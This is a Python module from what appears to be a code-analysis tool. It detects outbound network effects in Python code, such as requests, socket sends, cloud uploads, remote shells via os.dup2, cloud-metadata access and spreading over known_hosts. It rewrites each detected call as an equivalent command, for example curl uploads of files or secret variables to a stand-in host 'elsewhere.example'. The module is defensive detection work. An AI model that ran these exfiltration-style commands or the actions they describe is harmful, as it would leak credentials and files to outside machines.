"""Calls that send something to another machine, and connections that something else stands behind."""

from __future__ import annotations

import ast
import re
from collections.abc import Iterator
from typing import TYPE_CHECKING

from fairlead.shell.effects.code.act import Act, on_path
from fairlead.shell.effects.code.python.calls.call import Call, as_word, is_elsewhere
from fairlead.shell.effects.code.python.running.thing import (
    HOLE,
    UNKNOWN,
    Thing,
    deep_origins,
    paths_of,
    shown_as,
)
from fairlead.shell.effects.effect import Action
from fairlead.shell.effects.network.attack_requests import is_attack
from fairlead.shell.effects.secret_material.secret_searches import SECRET_NAME
from fairlead.shell.lazy_pattern import lazy
from fairlead.shell.word_sets import names

if TYPE_CHECKING:
    from fairlead.shell.effects.code.python.running.run import Run

CLIENTS = (
    "requests.",
    "httpx.",
    "aiohttp.",
    "urllib3.",
    "urllib.request.",
    "urllib2.",
    "cloudscraper.",
    "curl_cffi.",
)
_ASKING = names(
    "get post put patch delete request head options urlopen Request urlretrieve urlopen stream send"
)
_SENDING = names("post put patch request urlopen Request send get")
_ON_CONNECTION = names(
    """
    send sendall sendto sendfile storbinary storlines sendmail send_message put write upload request publish
    emit send_bytes append put_r put_d putfo
    """
)
_LOGIN = names("headers auth cookies")
_SAYING_WHO = lazy(
    r"(?i)auth|key|token|cookie|secret|credential|sign|bearer|private|passw|jwt|session|csrf|api|client|account"
)
"""Headers in which a server expects what proves who asks."""
_NO_PAYLOAD = names("url fullurl timeout verify cert proxies stream allow_redirects context")
_LOOKING_UP = names("socket.gethostbyname socket.getaddrinfo socket.gethostbyname_ex dns.resolver.resolve")
_METADATA = re.compile(r"169\.254\.169\.254|metadata\.google|fd00:ec2|100\.100\.100\.200")
_SECRET = lazy(rf"^{SECRET_NAME}$")
_STORING = names(
    """
    append_row append_rows insert_rows capture_message capture_exception
    files_upload put_object upload_blob upload_fileobj upload_from_file upload_from_string send_document
    send_photo sendDocument files_upload_v2 upload_large
    """
)
"""Of libraries that know themselves where their server is."""
_NAMED_FILES = ("file", "filename", "document", "path")
"""Keywords by which these are told which file to send."""
_CONSOLES = names("code.interact code.InteractiveConsole pdb.set_trace IPython.embed")
_NAMED_PATH = {"upload_file": 0, "fput_object": 2, "put_object_from_file": 1, "upload_local_file": 0}
"""Which argument is the path of what goes to an account of someone else."""
_UPLOADED = {"upload_file": "aws", "upload_fileobj": "aws"}


def is_request(call: Call) -> bool:
    return call.name.startswith(CLIENTS) and call.method in _ASKING


def network_acts(call: Call, run: Run) -> Iterator[Act]:
    if is_request(call):
        yield from _requested(call)
    elif call.name in _LOOKING_UP or call.name == "webbrowser.open":
        yield from _looked_up(call)
    elif call.name == "os.dup2" and call.given and call.given[0].peers:
        run.dup_peers = call.given[0].peers
    elif call.name in _CONSOLES:
        if run.dup_peers is not None and is_elsewhere(run.dup_peers):
            yield Act(str(Action.RUN_NETWORK_CODE), name="remote-shell", text=call.name)
    elif call.method == "sendto" and "socket" in call.name and len(call.given) > 1:
        hosts = call.hosts(call.given[-1])
        yield from _sent(call.given[0], hosts, "-T") if is_elsewhere(hosts) else ()
    elif call.method in _STORING or call.method in _UPLOADED or call.method in _NAMED_PATH:
        yield from _stored(call)
    elif call.method == "connect" and _spreads(call):
        yield Act(str(Action.RUN_NETWORK_CODE), name="scan", text=call.name)
    elif call.method in _ON_CONNECTION and call.owner.peers:
        yield from _on_connection(call)


def _looked_up(call: Call) -> Iterator[Act]:
    """A name that is looked up, or an address that a browser opens, says what stands in it."""
    address = call.at(0)
    yield from _sent(address, call.hosts(address), "-d")
    if any(kind == "machine" for kind, _ in deep_origins(address)):
        yield Act(str(Action.SEND_DATA), name="name-lookup")
    for each in address.texts:
        if each.startswith("file://"):
            yield on_path(Action.READ, each.removeprefix("file://"), name=call.method)


def _stored(call: Call) -> Iterator[Act]:
    if call.method in _NAMED_PATH and is_elsewhere(call.owner.peers):
        for path in call.paths(_NAMED_PATH[call.method], "Filename", "file_path", "filename"):
            yield Act("shell", f"curl -T {as_word(path)} https://{_host(call.owner.peers)}/")
    elif call.method in _UPLOADED and len(call.given) > 1:
        target = f"s3://{shown_as(call.given[1])[0]}/{shown_as(call.at(2))[0]}"
        for path in call.paths(0, "Filename"):
            yield Act("shell", f"aws s3 cp {as_word(path)} {as_word(target)}")
    elif call.owner.peers:
        yield from _on_connection(call)
    elif call.method in _STORING:
        for each in (*call.given, *call.named.values()):
            yield from _sent(each, (HOLE,), "-T")
        for path in (path for name in _NAMED_FILES for path in paths_of(call.named.get(name, UNKNOWN))):
            yield Act("shell", f"curl -T {as_word(path)} https://elsewhere.example/")


def _requested(call: Call) -> Iterator[Act]:
    at = 1 if call.method in ("request", "stream") and len(call.given) > 1 else 0
    address = call.at(at, "url", "fullurl")
    hosts = call.hosts(address) if address.texts else address.peers or (HOLE,)
    for each in address.texts:
        if _METADATA.search(each):
            yield Act("argv", words=("curl", "-s", each.replace(HOLE, "")))
        if is_attack(each):
            yield Act("shell", f"curl -s {as_word(each)}")
    if not is_elsewhere(hosts) or call.method not in _SENDING:
        return
    for payload in call.given[at + 1 :]:
        yield from _sent(payload, hosts, "-T")
    for name, payload in call.named.items():
        if name in _LOGIN:
            yield from _whole_environment(payload)
            for header, value in (payload.fields or {}).items() if name == "headers" else ():
                yield from _sent(value, hosts, "-d") if not _SAYING_WHO.search(header) else ()
        elif name not in _NO_PAYLOAD:
            yield from _sent(payload, hosts, "-d" if name in ("json", "params") else "-T")
    yield from _variables(address, hosts)


def _whole_environment(thing: Thing) -> Iterator[Act]:
    if ("variable", "*") in deep_origins(thing):
        yield Act(str(Action.SEND_DATA), name="environment")


def _variables(thing: Thing, hosts: tuple[str, ...]) -> Iterator[Act]:
    """In an address, a secret variable is sent if the address is not the variable itself."""
    if not thing.texts or any(each.startswith(HOLE) for each in thing.texts):
        return
    for kind, which in deep_origins(thing):
        if kind in ("variable", "kept") and _SECRET.match(which):
            yield Act("shell", f'curl -d "${which}" https://{_host(hosts)}/')
        elif kind in ("private", "secret") or (kind, which) == ("variable", "*"):
            yield Act(str(Action.SEND_DATA), name="environment")
        elif kind in ("file", "held") and which:
            yield Act("shell", f"curl -d @{as_word(which)} {as_word(f'https://{_host(hosts)}/')}")


def _sent(payload: Thing, hosts: tuple[str, ...], option: str) -> Iterator[Act]:
    """As the command that sends the same."""
    address = f"https://{_host(hosts)}/"
    for kind, which in sorted(deep_origins(payload)):
        if kind in ("file", "held") and which:
            sent = which if option == "-T" else f"@{which}"
            yield Act("shell", f"curl {option} {as_word(sent)} {as_word(address)}")
        elif kind in ("private", "secret") or (kind in ("variable", "kept") and which == "*"):
            yield Act(str(Action.SEND_DATA), name="environment")
        elif kind in ("variable", "kept") and _SECRET.match(which):
            yield Act("shell", f'curl -d "${which}" {as_word(address)}')
        elif kind == "output" and which:
            yield Act("shell", f"{which} | curl -d @- {as_word(address)}")


def _host(hosts: tuple[str, ...]) -> str:
    return next(
        (host for host in hosts if is_elsewhere((host,)) and HOLE not in host and host), "elsewhere.example"
    )


def _spreads(call: Call) -> bool:
    """Whether it goes to each machine that this one knows, or takes a copy of itself there."""
    if call.method == "connect":
        told = deep_origins(call.at(0, "hostname", "host"))
        return any(kind == "file" and which.endswith(_KNOWN_MACHINES) for kind, which in told)
    first = call.at(0, "localpath", "local")
    return first.name in ("__file__", "sys.argv") or "__file__" in ast.unparse(call.node)


_KNOWN_MACHINES = ("known_hosts", "/etc/hosts", ".ssh/config")


def _on_connection(call: Call) -> Iterator[Act]:
    hosts = call.owner.peers
    if not is_elsewhere(hosts):
        return
    if _spreads(call):
        yield Act(str(Action.RUN_NETWORK_CODE), name="remote-shell", text=call.name)
    if call.method in ("put", "upload", "put_r", "put_d") and any(
        word in call.name.lower() for word in ("paramiko", "sftp", "scp")
    ):
        for path in call.paths(0, "localpath"):
            yield Act("argv", words=("scp", path, f"{_host(hosts)}:{call.told(1, 'remotepath') or 'x'}"))
        return
    for each in (*call.given, *call.named.values()):
        yield from _sent(each, hosts, "-T")
